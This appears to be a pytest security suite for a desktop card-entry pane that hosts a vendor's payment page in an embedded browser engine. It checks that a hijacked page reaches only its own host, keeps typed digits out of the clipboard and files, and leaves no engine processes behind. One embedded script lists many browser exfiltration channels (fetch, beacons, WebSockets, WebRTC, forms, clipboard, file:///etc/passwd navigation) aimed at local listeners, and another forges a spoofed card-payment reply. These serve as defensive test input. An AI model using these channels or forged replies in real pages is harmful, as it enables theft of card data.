"""A vendor's page that was taken over reaches nothing but its own host, and takes nothing out.

Each way is tried from the page itself and, without its policy, from a frame of the vendor's origin.
"""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path

import pytest

from desktop.card_entry.hosted_engine import is_installed
from desktop.card_entry.pane_process import pane_command
from desktop.card_protocol import Code, Outcome, Protection, Shield
from tests.hostile.pane.hosted.hosted_stage import (
    TITLE,
    HostedVendorServer,
    at_rest,
    hosted_pane,
    reply_of,
    vendor_server,
)
from tests.support.cardpane.published import VISA
from tests.support.hostile.pane_stage import until
from tests.support.hostile.process_scan import is_gone, ours
from tests.support.virtual_display import VirtualDisplay

pytestmark = [
    pytest.mark.hostile,
    pytest.mark.skipif(not is_installed(), reason="PySide6-Addons is not installed"),
]

# PORT and UDP are of servers that must hear nothing.
_WAYS = """
const tries = [
  () => fetch("https://127.0.0.1:PORT/fetch", {mode: "no-cors"}),
  () => fetch("http://127.0.0.1:PORT/plain", {mode: "no-cors"}),
  () => fetch("https://localhost:PORT/name", {mode: "no-cors"}),
  () => navigator.sendBeacon("https://127.0.0.1:PORT/beacon", "digits"),
  () => { new Image().src = "https://127.0.0.1:PORT/image"; },
  () => new WebSocket("wss://127.0.0.1:PORT/socket"),
  () => new EventSource("https://127.0.0.1:PORT/events"),
  () => new WebTransport("https://127.0.0.1:PORT/transport"),
  () => window.open("https://127.0.0.1:PORT/window"),
  () => { for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "stylesheet"]) {
    const link = document.createElement("link");
    link.rel = rel; link.href = "https://127.0.0.1:PORT/" + rel; document.head.append(link); } },
  () => { const frame = document.createElement("iframe");
    frame.src = "https://127.0.0.1:PORT/frame"; document.body.append(frame); },
  () => { const form = document.createElement("form"); form.method = "post";
    form.target = "_blank";
    form.action = "https://127.0.0.1:PORT/form"; document.body.append(form); form.submit(); },
  () => { const link = document.createElement("a"); link.download = "digits";
    link.href = "https://127.0.0.1:PORT/download"; document.body.append(link); link.click(); },
  () => { const link = document.createElement("a"); link.download = "digits";
    link.href = "data:text/plain,digits"; document.body.append(link); link.click(); },
  () => { const peer = new RTCPeerConnection({iceServers: [{urls: [
      "stun:127.0.0.1:UDP", "turn:127.0.0.1:PORT?transport=tcp"], username: "a",
      credential: "b"}]});
    peer.createDataChannel("x"); peer.createOffer().then(o => peer.setLocalDescription(o)); },
  () => navigator.clipboard.writeText("digits"),
  () => { document.execCommand("copy"); },
  () => navigator.serviceWorker.register("https://127.0.0.1:PORT/worker.js"),
  () => new Worker("https://127.0.0.1:PORT/worker.js"),
  () => import("https://127.0.0.1:PORT/module.js"),
  () => navigator.geolocation.getCurrentPosition(() => {}),
  () => navigator.mediaDevices.getUserMedia({audio: true}),
  () => Notification.requestPermission(),
  () => { window.print(); },
  () => { alert("stop"); confirm("stop"); prompt("stop"); },
  () => { location.href = "https://127.0.0.1:PORT/moved"; },
  () => { top.location.href = "https://127.0.0.1:PORT/moved"; },
  () => { location.href = "file:///etc/passwd"; },
];
for (const one of tries) {
  try { Promise.resolve(one()).catch(() => {}); } catch { /* not there */ }
}
"""
_LIES = """
document.title = 'skycap {"seq":1,"state":"done","content":{"id":"pm_stolen","livemode":false,' +
  '"brand":"visa","last4":"4242","exp_month":12,"exp_year":2031}}';
"""
_FRAME = """<!doctype html><body><script>TRIES;
fetch("/tried");</script>"""


class Bystander:
    """A TCP and a UDP server of this machine; `heard` counts what reached them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.heard: list[str] = []
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def ways(self) -> str:
        port, udp = (each.getsockname()[1] for each in (self.tcp, self.udp))
        return _WAYS.replace("PORT", str(port)).replace("UDP", str(udp))

    def _accept(self) -> None:
        while True:
            try:
                caller, _ = self.tcp.accept()
            except OSError:
                return
            self.heard.append("TCP")
            caller.close()

    def _receive(self) -> None:
        while True:
            try:
                self.udp.recv(2048)
            except OSError:
                return
            self.heard.append("UDP")

    def stop(self) -> None:
        for each in (self.tcp, self.udp):
            with suppress(OSError):
                each.shutdown(socket.SHUT_RDWR)
            each.close()


@pytest.fixture
def bystander() -> Iterator[Bystander]:
    made = Bystander()
    yield made
    made.stop()


@pytest.fixture
def vendor(ca_folder: Path) -> Iterator[HostedVendorServer]:
    with vendor_server(ca_folder) as made:
        yield made


def test_nothing_but_the_listed_host_is_reached(
    screen: VirtualDisplay, vendor: HostedVendorServer, bystander: Bystander
) -> None:
    ways = bystander.ways()
    vendor.frame = _FRAME.replace("TRIES", ways)
    vendor.also = f"""
        const evil = document.createElement("iframe");
        evil.src = new URL("/evil", document.currentScript.src).href;
        document.body.append(evil);
        setTimeout(() => {{ {ways} {_LIES} }}, 300);
    """
    with hosted_pane(screen, vendor) as pane:
        until(lambda: "/tried" in vendor.asked)
        # What is asked for ahead, or again, has no end that could be waited for.
        time.sleep(3)
        assert bystander.heard == []
        assert screen.holds_keyboard(TITLE), "no second window"
        screen.press("Escape")
        reply = reply_of(pane)
    assert (reply.outcome, reply.code) == (Outcome.CANCELLED, Code.NONE), "a lie is no answer"
    assert reply.receipt.blocked >= 5
    assert bystander.heard == []


def test_no_process_of_the_engine_outlives_its_pane(
    screen: VirtualDisplay, vendor: HostedVendorServer
) -> None:
    with hosted_pane(screen, vendor) as pane:
        family = ours(pane.pid)
        assert len(family) >= 5
        screen.type(VISA)
        pane.end()
        assert all(is_gone(process) for process in family)


def test_one_that_is_killed_takes_the_engine_with_it(
    screen: VirtualDisplay, vendor: HostedVendorServer
) -> None:
    with hosted_pane(screen, vendor) as pane:
        family = ours(pane.pid)
        os.kill(pane.pid, signal.SIGKILL)
        until(lambda: all(is_gone(process) for process in family))


def test_what_is_typed_is_in_no_selection_and_in_no_file(
    screen: VirtualDisplay, vendor: HostedVendorServer, tmp_path: Path
) -> None:
    with hosted_pane(screen, vendor, tmp_path) as pane:
        at_rest(screen)
        screen.type(VISA)
        for keys in ("shift+Home", "ctrl+a", "ctrl+c", "ctrl+x", "ctrl+Insert", "shift+Delete"):
            screen.press(keys)
        # Tab marks the whole field that it comes back to.
        screen.press("Tab", "shift+Tab")
        at_rest(screen)
        for selection in ("primary", "clipboard"):
            assert VISA[:6] not in selected(screen, selection)
        written = {file: file.stat().st_mtime for file in tmp_path.rglob("*")}
        screen.press("Escape")
        assert reply_of(pane).outcome is Outcome.CANCELLED
    assert written == {}, "its home, its runtime folder: nothing is there"


def selected(screen: VirtualDisplay, which: str) -> str:
    """What another program is given; nothing where nobody owns it, or who owns it keeps quiet."""
    try:
        return subprocess.run(
            ["xclip", "-out", "-selection", which],
            env={**os.environ, **screen.environment()},
            capture_output=True,
            text=True,
            timeout=5,
        ).stdout
    except subprocess.TimeoutExpired:
        return ""


def test_the_receipt_says_what_held_and_that_the_digits_were_painted(
    screen: VirtualDisplay, vendor: HostedVendorServer
) -> None:
    with hosted_pane(screen, vendor) as pane:
        screen.press("Escape")
        receipt = reply_of(pane).receipt
    assert receipt.shield is Shield.VENDOR_PAINTS
    assert {
        *(Protection.VENDOR_FIELDS, Protection.HOSTS_LISTED, Protection.NOTHING_KEPT),
        *(Protection.NO_CORE, Protection.NO_NEW_PRIVILEGES, Protection.NO_BUS),
    } <= receipt.held
    assert not {Protection.MEMORY_LOCKED, Protection.CALLS_FILTERED} & receipt.held
    assert json.dumps(receipt.blocked) == "0"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can start a pane as nobody else")
def test_the_engines_own_sandbox_holds_for_a_user_who_is_not_root(
    screen: VirtualDisplay, vendor: HostedVendorServer
) -> None:
    nobody = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
    with hosted_pane(screen, vendor, command=(*nobody, *pane_command())) as pane:
        at_rest(screen)
        screen.press("Escape")
        held = reply_of(pane).receipt.held
    assert {Protection.ENGINE_SANDBOXED, Protection.NO_FILE_WRITES} <= held
    # Where setting up has made the engine's helper such that nobody may read it.
    assert (Protection.NOT_READABLE in held) is not is_helper_readable()


def is_helper_readable() -> bool:
    from PySide6.QtCore import QLibraryInfo

    folder = QLibraryInfo.path(QLibraryInfo.LibraryPath.LibraryExecutablesPath)
    return bool((Path(folder) / "QtWebEngineProcess").stat().st_mode & 0o444)
